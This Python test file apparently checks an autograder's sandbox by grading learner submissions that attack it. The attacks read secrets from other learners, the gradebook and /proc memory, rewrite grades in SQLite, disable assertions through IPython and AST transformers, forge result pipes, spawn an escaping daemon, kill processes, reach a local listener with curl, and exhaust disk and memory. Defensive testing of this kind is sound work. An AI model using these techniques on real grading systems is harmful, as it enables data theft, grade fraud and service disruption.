"""Learners' submissions that attack the grader, one per attack class of issue 17.

Every attacker is a learner of ONE `hocso grade autograde --json` run (the command an instructor
types), beside honest learners, so one grading run serves every attack and also shows that the batch
goes on. Each test then asserts the secure outcome for its attack. Run against the engine before the
OS sandbox (commit ab26b2a), every test here failed except `test_the_batch_goes_on`
(see the commit message that added this file for the list).

The attacks are aimed only at things this test owns: the other learner, the instructor's source and
the gradebook of this test's course, a decoy process standing in for another instructor's grader, a
listener on 127.0.0.1 started here. Nothing they do reaches beyond the test's folders if they succeed.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from hocso.config import Course, course_runtime_dir, gradebook_url
from hocso.graders.claims import CLAIMS_DIR

from .conftest import MODULE, NOTEBOOK, make_course, submit

pytestmark = pytest.mark.slow

CORRECT = "def add(a, b):\n    return a + b"
WRONG = "def add(a, b):\n    return a - b"
TAG = uuid.uuid4().hex[:12]
OTHER_SECRET = f"OTHER-LEARNER-SECRET-{TAG}"  # only in the honest learner's notebook
GRADER_SECRET = f"GRADER-ENV-SECRET-{TAG}"  # only in the grader's environment
HIDDEN = "add(10, 5) == 15"  # the hidden test: in the source, the gradebook, autograded notebooks
DAEMON_NAME = f"hx{TAG[:10]}"  # the comm name the daemon gives itself (15 characters at most)
DECOY_MARK = f"hocso-grade-autograde-decoy-{TAG}"
FILL_PREFIX = f"hocso-attack-fill-{TAG}"

# Each attack prints LEAK/REACHED/... when it worked; the secure outcome is checked per test.
READ_DIR_FD = """
import os
marks = [m[::-1] for m in (MARKS)]
root = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
for top in (RUNTIME, SOURCE_DIR):
    try:  # a path relative to a directory descriptor, then listed through descriptors
        fd = os.open(os.path.relpath(top, '/'), os.O_RDONLY | os.O_DIRECTORY, dir_fd=root)
    except OSError as error:
        print('no dir', type(error).__name__)
        continue
    for path, dirs, files, dirfd in os.fwalk('.', dir_fd=fd):
        for name in files:
            try:
                handle = os.open(name, os.O_RDONLY, dir_fd=dirfd)
                data = os.read(handle, 10_000_000)
                os.close(handle)
            except OSError:
                continue
            for mark in marks:
                if mark.encode() in data and 'reader_dirfd' not in path:
                    at = data.index(mark.encode())
                    print('LEAK', path, name, data[at:at + 60])
"""
READ_SUBPROCESS = """
import subprocess
for command in (['cat', OTHER_NB], ['cat', SOURCE_NB], ['grep', '-r', '-a', '-o', '-h', '[O]THER-LEARNER-SECRET.*', RUNTIME],
                ['sh', '-c', 'cat ' + SOURCE_NB], ['strings', GRADEBOOK]):
    try:
        done = subprocess.run(command, capture_output=True, timeout=5)
        print('LEAK' if done.stdout else 'empty', done.stdout[-3000:])
    except Exception as error:
        print('refused', type(error).__name__)
"""
READ_PROC = """
import gc, os, sys
marks = tuple(m[::-1] for m in (MARKS))
hidden = marks[2]
found = []
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    for part in ('environ', 'cmdline'):
        try:
            found.append(open(f'/proc/{pid}/{part}', 'rb').read())
        except OSError:
            pass
    if int(pid) == os.getpid() or b'hocso' not in (found or [b''])[-1]:
        continue  # its own memory holds the marks it looks for; the grader's processes are enough
    try:
        maps = open(f'/proc/{pid}/maps').read().splitlines()
        mem = open(f'/proc/{pid}/mem', 'rb')
        for line in maps:
            span, perms = line.split()[:2]
            if 'rw' not in perms:
                continue
            start, end = (int(x, 16) for x in span.split('-'))
            try:
                mem.seek(start)
                chunk = mem.read(min(end - start, 64_000_000))
            except (OSError, ValueError, OverflowError):
                continue
            if hidden.encode() in chunk:
                found.append(b'memory of ' + pid.encode() + b': ' + hidden.encode())
    except OSError:
        pass
frame = sys._getframe().f_back  # the frames that called this cell, not the cell's own names
while frame is not None:
    found.append(repr(frame.f_locals).encode('utf-8', 'replace'))
    frame = frame.f_back
for obj in gc.get_objects():
    if obj is not marks and isinstance(obj, (list, tuple)):
        if any(isinstance(x, str) and hidden in x for x in obj[:50]):
            found.append(('gc: ' + hidden).encode())
for blob in found:
    for mark in marks:
        if mark.encode() in blob:
            at = blob.index(mark.encode())
            print('LEAK', blob[max(0, at - 40):at + 60])
"""
WRITE_SQLITE = """
import sqlite3
try:
    db = sqlite3.connect(GRADEBOOK, timeout=5)
    db.execute("UPDATE grade SET manual_score = 0 WHERE id IN (SELECT grade.id FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id WHERE submitted_assignment.student_id = 'honest')")
    db.execute("UPDATE grade SET manual_score = 99 WHERE id IN (SELECT grade.id FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id WHERE submitted_assignment.student_id = 'writer_sqlite')")
    db.execute("INSERT INTO student (id) VALUES ('intruder')")
    db.commit()
    print('WROTE the gradebook')
except Exception as error:
    print('refused', type(error).__name__, error)
"""
FAKE_INPUT_TRANSFORMER = """
def _quiet(lines):
    body = ['    ' + line.rstrip('\\n') + '\\n' for line in lines] or ['    pass\\n']
    return ['try:\\n', *body, 'except BaseException:\\n', '    pass\\n']
get_ipython().input_transformers_post.append(_quiet)
"""
FAKE_AST_TRANSFORMER = """
import ast
class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoAsserts())
"""
FAKE_STACK = """
import gc, sys
def _blank(items):
    for i, item in enumerate(items):
        if isinstance(item, str) and 'assert' in item:
            items[i] = 'pass'
        elif isinstance(item, list):
            _blank(item)
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        if isinstance(value, list):
            _blank(value)
    frame = frame.f_back
for obj in gc.get_objects():
    if isinstance(obj, list) and any(isinstance(x, str) and 'assert add' in x for x in obj[:50]):
        _blank(obj)
"""
FAKE_PIPE = """
import json, os, struct, sys
fake = [{'output_type': 'stream', 'name': 'stdout', 'text': 'ok'}]
messages = [fake] * 10
frame = sys._getframe()
while frame is not None:  # the grader's own request, if it is still in reach
    for value in list(frame.f_locals.values()):
        if isinstance(value, dict) and 'nonce' in value:
            messages.insert(0, dict(value, outputs=fake))
            messages.append({'done': value['nonce'], 'tamper': []})
    frame = frame.f_back
for fd in [int(n) for n in os.listdir('/proc/self/fd') if int(n) > 2]:
    for message in messages:
        data = json.dumps(message).encode()
        try:
            os.write(fd, struct.pack('!I', len(data)) + data)
        except OSError:
            break
os._exit(0)
"""
DAEMON = """
import ctypes, os, time
if os.fork() == 0:  # a new session escapes a process-group kill
    os.setsid()
    ctypes.CDLL(None).prctl(15, DAEMON_NAME.encode(), 0, 0, 0)  # PR_SET_NAME: findable afterwards
    target = os.path.relpath(OTHER_AUTOGRADED, '/')
    root = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(600):
        try:
            handle = os.open(target, os.O_WRONLY | os.O_APPEND, dir_fd=root)
            os.write(handle, b'daemon was here')
            os.close(handle)
        except OSError:
            pass
        time.sleep(0.2)
    os._exit(0)
time.sleep(0.2)
"""
KILLER = """
import os, signal
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        cmdline = open(f'/proc/{pid}/cmdline', 'rb').read()
    except OSError:
        continue
    if DECOY_MARK.encode() in cmdline:
        try:
            os.kill(int(pid), signal.SIGKILL)
            print('KILLED', pid)
        except OSError as error:
            print('refused', type(error).__name__)
"""
NETWORK = """
import os, subprocess, sys
os.system(f'curl -s -m 3 http://127.0.0.1:{PORT}/curl')
subprocess.run([sys.executable, '-c', f'import socket; s = socket.create_connection(("127.0.0.1", {PORT}), timeout=3); s.sendall(b"python")'], timeout=10)
"""
FILL_DISK = """
import os
written = 0
chunk = b'x' * 40_000_000
for n in range(10):
    for folder in ('.', '/tmp'):
        try:
            with open(os.path.join(folder, FILL_PREFIX + '-' + str(n)), 'wb') as handle:
                handle.write(chunk)
            written += len(chunk)
        except OSError as error:
            print('stopped', type(error).__name__, error.errno)
print('WROTE_MB', written // 1_000_000)
"""
MEMORY_BOMB = "\nhog = []\nwhile True:\n    hog.append(bytearray(50_000_000))"

ATTACKERS = {
    "reader_dirfd": CORRECT + READ_DIR_FD,
    "reader_subprocess": CORRECT + READ_SUBPROCESS,
    "reader_proc": CORRECT + READ_PROC,
    "writer_sqlite": WRONG + WRITE_SQLITE,
    "faker_input": WRONG + FAKE_INPUT_TRANSFORMER,
    "faker_ast": WRONG + FAKE_AST_TRANSFORMER,
    "faker_stack": WRONG + FAKE_STACK,
    "faker_pipe": WRONG + FAKE_PIPE,
    "daemon": CORRECT + DAEMON,
    "killer": CORRECT + KILLER,
    "network": CORRECT + NETWORK,
    "filler": CORRECT + FILL_DISK,
    "memory_bomb": CORRECT + MEMORY_BOMB,
}
HONEST = {"honest": CORRECT, "wrong": WRONG}


class _Listener:
    """A TCP listener on 127.0.0.1 that answers like a web server and remembers who came."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.connections.append(conn.recv(1000))
                    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 14\r\n\r\nLEAKED-BY-CURL")
                except OSError:
                    pass

    def close(self) -> None:
        self.sock.close()


# what grading itself writes in the runtime tree: autograded notebooks, the gradebook (and its WAL
# files), and each run's claim on a learner (hocso.graders.claims)
GRADING_WRITES = ("autograded/", "gradebook.db", f"{CLAIMS_DIR}/")


def _changed(before: dict[str, str], after: dict[str, str]) -> list[str]:
    """Paths added, removed or rewritten between two `_tree_hashes`."""
    return sorted(path for path in before.keys() | after.keys() if before.get(path) != after.get(path))


def _tree_hashes(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    hashes = {}
    for path in sorted(root.rglob("*")):
        relative = path.relative_to(root).as_posix()
        if path.is_file() and not path.is_symlink() and not relative.startswith(skip):
            hashes[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return hashes


def _processes_named(name: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if (entry / "comm").read_text().strip() == name:
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


def _fill(body: str, course: Course, port: int) -> str:
    runtime = course_runtime_dir(course)
    literals = {  # each name in an attack's code, as the Python literal it stands for
        "RUNTIME": repr(str(runtime)),
        "SOURCE_DIR": repr(str(course.notebooks_dir)),
        "SOURCE_NB": repr(str(course.notebooks_dir / MODULE / NOTEBOOK)),
        "OTHER_NB": repr(str(runtime / "submitted" / "honest" / MODULE / NOTEBOOK)),
        "OTHER_AUTOGRADED": repr(str(runtime / "autograded" / "honest" / MODULE / NOTEBOOK)),
        "GRADEBOOK": repr(gradebook_url(course).removeprefix("sqlite:///")),
        "MARKS": f"{OTHER_SECRET[::-1]!r}, {GRADER_SECRET[::-1]!r}, {HIDDEN[::-1]!r},",
        "HIDDEN": repr(HIDDEN),
        "DAEMON_NAME": repr(DAEMON_NAME),
        "DECOY_MARK": repr(DECOY_MARK),
        "FILL_PREFIX": repr(FILL_PREFIX),
        "PORT": str(port),
    }
    for name in sorted(literals, key=len, reverse=True):
        body = body.replace(name, literals[name])
    return body


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, object]]:
    """Grade every attacker and the honest learners in one `hocso grade autograde --json` run."""
    home = tmp_path_factory.mktemp("home")
    listener = _Listener()
    decoy = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", DECOY_MARK])
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOCSO_HOME", str(home))
        course = make_course(tmp_path_factory.mktemp("course"))
        runtime = course_runtime_dir(course)
        submit(course, "honest", CORRECT + f"\n# {OTHER_SECRET}")
        submit(course, "wrong", WRONG)
        for learner, body in ATTACKERS.items():
            submit(course, learner, _fill(body, course, listener.port))
        before = _tree_hashes(runtime, skip=GRADING_WRITES)
        source_before = _tree_hashes(course.notebooks_dir)
        env = dict(os.environ, HOCSO_HOME=str(home), HOCSO_LANG="en", HOCSO_TEST_SECRET=GRADER_SECRET)
        command = [sys.executable, "-m", "hocso", "grade", "autograde", MODULE, "--json", "--workers", "2"]
        command += ["--cell-timeout", "10", "--notebook-timeout", "60", "--memory-mb", "600"]
        command += ["--course", str(course.root)]
        done = subprocess.run(command, capture_output=True, text=True, env=env, timeout=600)
        survivors = _processes_named(DAEMON_NAME)
        try:
            results = {r["learner"]: r for r in json.loads(done.stdout)["results"]}
            parsed = True
        except (ValueError, KeyError):
            results, parsed = {}, False
        with Gradebook(gradebook_url(course)) as gb:
            scores = {s.student.id: s.score for s in gb.assignment_submissions(MODULE)}
            students = {s.id for s in gb.students}
        yield {
            "course": course,
            "runtime": runtime,
            "done": done,
            "parsed": parsed,
            "results": results,
            "scores": scores,
            "students": students,
            "survivors": survivors,
            "decoy_alive": decoy.poll() is None,
            "connections": list(listener.connections),
            "changed": _changed(before, _tree_hashes(runtime, skip=GRADING_WRITES)),
            "source_unchanged": source_before == _tree_hashes(course.notebooks_dir),
        }
    for pid in _processes_named(DAEMON_NAME):  # what an old engine let survive
        os.kill(pid, signal.SIGKILL)
    for leftover in Path("/tmp").glob(f"{FILL_PREFIX}-*"):
        leftover.unlink()
    decoy.kill()
    decoy.wait()
    listener.close()


def _outputs(attacked: dict[str, object], learner: str) -> str:
    """Everything a learner's autograded notebook shows as cell outputs (what feedback shows)."""
    path = attacked["runtime"] / "autograded" / learner / MODULE / NOTEBOOK  # type: ignore[operator]
    nb = nbformat.read(path, as_version=4)
    return json.dumps([c.get("outputs", []) for c in nb.cells if c.cell_type == "code"], ensure_ascii=False)


def _result(attacked: dict[str, object], learner: str) -> dict[str, object]:
    results = attacked["results"]
    assert isinstance(results, dict) and learner in results, attacked["done"]
    return results[learner]


@pytest.mark.parametrize("learner", ["reader_dirfd", "reader_subprocess", "reader_proc"])
def test_a_submission_reads_nothing_but_its_own_folder(attacked, learner):
    """dir_fd walks, a subprocess `cat`/`grep`, /proc of the grader (environment, memory, frames)."""
    shown = _outputs(attacked, learner)
    assert "LEAK" not in shown, shown[:3000]
    for secret in (OTHER_SECRET, GRADER_SECRET, HIDDEN):
        assert secret not in shown


def test_a_submission_cannot_write_the_gradebook(attacked):
    scores, students = attacked["scores"], attacked["students"]
    assert "intruder" not in students
    assert scores["honest"] == 3
    assert scores["writer_sqlite"] == 0


@pytest.mark.parametrize("learner", ["faker_input", "faker_ast", "faker_stack", "faker_pipe"])
def test_a_wrong_answer_cannot_fake_its_score(attacked, learner):
    """Input/AST transformers, rewriting the hidden tests through the stack, forged result pipe."""
    assert attacked["scores"][learner] == 0
    assert _result(attacked, learner)["score"] == 0


def test_forged_results_are_flagged_for_review(attacked):
    result = _result(attacked, "faker_pipe")
    assert not result["ok"] and str(result["reason"]).startswith("needs review:"), result


def test_nothing_a_submission_starts_outlives_its_grading(attacked):
    assert attacked["survivors"] == []
    nbformat.read(attacked["runtime"] / "autograded" / "honest" / MODULE / NOTEBOOK, as_version=4)
    assert (
        "daemon was here"
        not in (attacked["runtime"] / "autograded" / "honest" / MODULE / NOTEBOOK).read_text()
    )


def test_a_submission_cannot_kill_other_graders(attacked):
    assert attacked["decoy_alive"]
    assert "KILLED" not in _outputs(attacked, "killer")


def test_a_submission_reaches_no_network(attacked):
    assert attacked["connections"] == []
    assert attacked["parsed"], attacked["done"].stdout[-2000:]  # nothing it ran wrote into --json
    assert "LEAKED-BY-CURL" not in attacked["done"].stdout


def test_a_submission_cannot_fill_the_disk(attacked):
    shown = _outputs(attacked, "filler")
    written = int(shown.split("WROTE_MB", 1)[1].split("\\n", 1)[0].strip())
    assert written <= 250, shown  # the writable area is size-limited (default 200 MB)
    assert not list((attacked["runtime"] / "autograded" / "filler").rglob(f"{FILL_PREFIX}-*"))
    assert not list(Path("/tmp").glob(f"{FILL_PREFIX}-*"))


def test_a_memory_bomb_is_recorded_as_failed_with_its_reason(attacked):
    result = _result(attacked, "memory_bomb")
    assert not result["ok"]
    assert "memory" in str(result["reason"]) and "add" in str(result["reason"]), result


def test_the_batch_goes_on(attacked):
    assert attacked["done"].returncode == 0, attacked["done"].stderr[-3000:]
    assert attacked["scores"]["honest"] == 3 and attacked["scores"]["wrong"] == 0
    assert set(attacked["scores"]) == set(ATTACKERS) | set(HONEST)


def test_nothing_outside_the_learners_folders_changed(attacked):
    assert not attacked["changed"]  # the runtime tree except what grading writes (GRADING_WRITES)
    assert attacked["source_unchanged"]
    for learner in ATTACKERS:  # what a submission wrote stays in its sandbox, not in autograded/
        folder = attacked["runtime"] / "autograded" / learner / MODULE
        assert {p.name for p in folder.iterdir()} <= {NOTEBOOK, "timestamp.txt", ".hocso-graded"}, learner
